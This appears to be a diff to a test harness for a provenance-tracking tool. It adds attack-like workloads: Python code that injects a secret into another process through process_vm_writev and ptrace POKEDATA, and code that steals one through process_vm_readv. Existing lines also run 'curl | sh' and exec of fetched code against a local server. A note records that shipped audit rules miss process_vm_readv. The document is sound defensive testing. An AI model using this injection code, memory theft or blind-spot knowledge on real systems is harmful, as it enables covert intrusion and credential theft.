@@ -27,6 +27,12 @@
 #   curlsh    curl URL | sh; python exec() of code fetched with urllib
 #   procmem   process injection: a secret written into another process's
 #             memory through /proc/PID/mem; that process writes it out
+#   vmwrite   the same through process_vm_writev
+#   ptpoke    the same through ptrace (attach, POKEDATA, detach)
+#   vmread    a thief reads a secret out of a victim's memory
+#             (process_vm_readv) and writes it out
+#   ptattach  a tracer attaches to a process that holds a secret, stops
+#             and resumes it, and writes a file: nothing flowed into it
 #   spool     cp of a crontab-like file into a spool directory
 set -eu
 top=${BTRACK_TOP:?}
@@ -67,6 +73,10 @@ stage	python3 ../listen.py $P5 & l=\$!; while [ ! -e ready ]; do sleep 0.05; don
 fileless	python3 -m http.server --bind 127.0.0.1 --directory srv $P6 > /dev/null 2>&1 & s=\$!; python3 ../fileless.py http://127.0.0.1:$P6/p.elf; kill \$s; wait \$s || true; cat decoy > /dev/null
 curlsh	python3 -m http.server --bind 127.0.0.1 --directory srv $P7 > /dev/null 2>&1 & s=\$!; until curl -s http://127.0.0.1:$P7/inst.sh > /dev/null; do sleep 0.1; done; curl -s http://127.0.0.1:$P7/inst.sh | sh; python3 -c 'import sys, urllib.request; exec(urllib.request.urlopen(sys.argv[1]).read())' http://127.0.0.1:$P7/code.py; kill \$s; wait \$s || true; cat decoy > /dev/null
 procmem	python3 ../victim.py & v=\$!; while [ ! -e addr ]; do sleep 0.05; done; python3 ../inject.py \$v; wait \$v; cat decoy > /dev/null
+vmwrite	python3 ../victim.py & v=\$!; while [ ! -e addr ]; do sleep 0.05; done; python3 ../memtool.py vmwrite \$v; wait \$v; cat decoy > /dev/null
+ptpoke	python3 ../victim.py & v=\$!; while [ ! -e addr ]; do sleep 0.05; done; python3 ../memtool.py poke \$v; wait \$v; cat decoy > /dev/null
+vmread	python3 ../holder.py & v=\$!; while [ ! -e held ]; do sleep 0.05; done; python3 ../memtool.py vmread \$v; wait \$v; cat decoy > /dev/null
+ptattach	python3 ../holder.py & v=\$!; while [ ! -e held ]; do sleep 0.05; done; python3 ../memtool.py attach \$v; wait \$v; cat decoy > /dev/null
 spool	mkdir -p spool/crontabs; cp job spool/crontabs/root; cat decoy > /dev/null
 "
 
@@ -133,24 +143,33 @@ procmem	fwd	file:@/secret	none	reaches	file:@/vout
 curlsh	back	file:@/stolen	none	reaches	file:@/secret	file:@/srv/inst.sh
 spool	back	file:@/spool/crontabs/root	none	reaches	file:@/job
 spool	back	file:@/spool/crontabs/root	none	lacks	file:@/decoy
+vmwrite	back	file:@/vout	none	reaches	file:@/secret
+vmwrite	back	file:@/vout	none	lacks	file:@/decoy
+vmwrite	fwd	file:@/secret	none	reaches	file:@/vout
+ptpoke	back	file:@/vout	none	reaches	file:@/secret
+ptpoke	back	file:@/vout	none	lacks	file:@/decoy
+ptpoke	fwd	file:@/secret	none	reaches	file:@/vout
+vmread	back	file:@/loot	none	reaches	file:@/secret
+vmread	back	file:@/loot	none	lacks	file:@/decoy
+vmread	fwd	file:@/secret	none	reaches	file:@/loot
+ptattach	back	file:@/tout	none	lacks	file:@/secret
+ptattach	fwd	file:@/secret	none	lacks	file:@/tout
 '
 CHECKS=$(echo "$CHECKS" | sed "s/PORT2/$P2/g")
 
 DESIGN='
+record:ptpoke:back#66  under btrack record every process is the recorder'"'"'s tracee, and a process has one tracer: the injector'"'"'s PTRACE_ATTACH of another fails (EPERM), so no injection happens to be recorded (a POKEDATA of a process outside the recording would be recorded)
+record:ptpoke:fwd#68  no injection under btrack record (record:ptpoke:back#66)
+auditd:vmread:back#69  the shipped audit rules leave process_vm_readv out (strace, debuggers and profilers call it for every string they read: it floods the audit backlog), so a read of another process'"'"'s memory through it is not seen
+auditd:vmread:fwd#71  process_vm_readv is not audited (auditd:vmread:back#69)
 auditd:inplace-ed:fwd#26  audit logs no write(2): every process holding a descriptor open for writing may have written through it until it lets go; perl inherited fd 3 of the shell (exec 3>> c3) (the old c3, renamed c3.bak by python) and is taken as a writer of it, which python then reads
 '
 
 KNOWN='
-record:procmem:back#57  process injection: a write into /proc/PID/mem changes process PID (as process_vm_writev and ptrace POKEDATA do) but is recorded as a write to a file named /proc/PID/mem, not as a dependency of that process; needs ingest to make it an edge from the writer to process PID (its start time from the source)
-record:procmem:fwd#59  process injection through /proc/PID/mem (record:procmem:back#57)
-ebpf:procmem:back#57  process injection through /proc/PID/mem (record:procmem:back#57)
-ebpf:procmem:fwd#59  process injection through /proc/PID/mem (record:procmem:back#57)
-auditd:procmem:back#57  process injection through /proc/PID/mem (record:procmem:back#57; audit logs the open of /proc/PID/mem O_RDWR, enough for the same edge)
-auditd:procmem:fwd#59  process injection through /proc/PID/mem (record:procmem:back#57)
 '
 
 prepare() {
-	for w in curlsh procmem stage fileless revshell udpx dlrun ldso preload gccdrop inplace-ed sortself tarcmd reasm spool; do
+	for w in curlsh procmem vmwrite ptpoke vmread ptattach stage fileless revshell udpx dlrun ldso preload gccdrop inplace-ed sortself tarcmd reasm spool; do
 		echo "the $w secret $$" >"$1/$w/secret"
 		echo "decoy $$" >"$1/$w/decoy"
 	done
@@ -235,9 +254,76 @@ import ctypes, os, time
 b = ctypes.create_string_buffer(b"\0" * 64)
 open("addr", "w").write(str(ctypes.addressof(b)))
 t = time.time() + 10
-while b.value == b"" and time.time() < t:
+while b.value == b"" and time.time() < t and not os.path.exists("gaveup"):
     time.sleep(0.02)
 open("vout", "wb").write(b.value)
+PY
+	# holds a secret in its memory until told it is done; its buffer's
+	# address is written before it reads the secret (so the address
+	# carries none of it), and "held" made (no data) once it has it
+	cat >"$1/holder.py" <<'PY'
+import ctypes, os, time
+b = ctypes.create_string_buffer(64)
+open("addr", "w").write(str(ctypes.addressof(b)))
+b.value = open("secret", "rb").read().strip()
+open("held", "w").close()
+t = time.time() + 10
+while not os.path.exists("done") and time.time() < t:
+    time.sleep(0.02)
+PY
+	# vmwrite, poke: the secret into the victim's buffer (process_vm_writev,
+	# ptrace POKEDATA); vmread: the holder's buffer out (process_vm_readv)
+	# into loot; attach: a tracer that stops and resumes the holder, and
+	# writes tout.  A ptrace that fails (a tracee of btrack record has its
+	# tracer) gives up: the victim stops waiting.
+	cat >"$1/memtool.py" <<'PY'
+import ctypes, os, sys
+libc = ctypes.CDLL(None, use_errno=True)
+class iovec(ctypes.Structure):
+    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]
+libc.ptrace.restype = ctypes.c_long
+libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p,
+                        ctypes.c_void_p]
+how, pid = sys.argv[1], int(sys.argv[2])
+# the tracer of "attach" reads nothing from the holder
+a = int(open("addr").read()) if how != "attach" else 0
+def attach():
+    if libc.ptrace(16, pid, None, None) != 0:   # PTRACE_ATTACH
+        print("ptrace attach:", os.strerror(ctypes.get_errno()))
+        if how == "attach":
+            open("tout", "w").write("not traced\n")
+        open("gaveup", "w").close()
+        open("done", "w").close()
+        sys.exit(0)
+    os.waitpid(pid, 0)
+def detach():
+    libc.ptrace(17, pid, None, None)            # PTRACE_DETACH
+if how in ("vmwrite", "vmread"):
+    n = 64
+    d = open("secret", "rb").read().strip() if how == "vmwrite" else b""
+    buf = ctypes.create_string_buffer(d, n)
+    l = iovec(ctypes.cast(buf, ctypes.c_void_p), len(d) or n)
+    r = iovec(a, len(d) or n)
+    f = libc.process_vm_writev if how == "vmwrite" else libc.process_vm_readv
+    f.restype = ctypes.c_ssize_t
+    if f(pid, ctypes.byref(l), 1, ctypes.byref(r), 1, 0) < 0:
+        sys.exit("%s: %s" % (how, os.strerror(ctypes.get_errno())))
+    if how == "vmread":
+        open("loot", "wb").write(buf.value)
+        open("done", "w").close()
+elif how == "poke":
+    d = open("secret", "rb").read().strip()
+    attach()
+    for i in range(0, len(d), 8):
+        w = int.from_bytes(d[i:i + 8].ljust(8, b"\0"), "little")
+        if libc.ptrace(5, pid, a + i, ctypes.c_void_p(w)) != 0:  # POKEDATA
+            sys.exit("poke: %s" % os.strerror(ctypes.get_errno()))
+    detach()
+elif how == "attach":
+    attach()
+    detach()
+    open("tout", "w").write("traced\n")
+    open("done", "w").close()
 PY
 	cat >"$1/inject.py" <<'PY'
 import sys
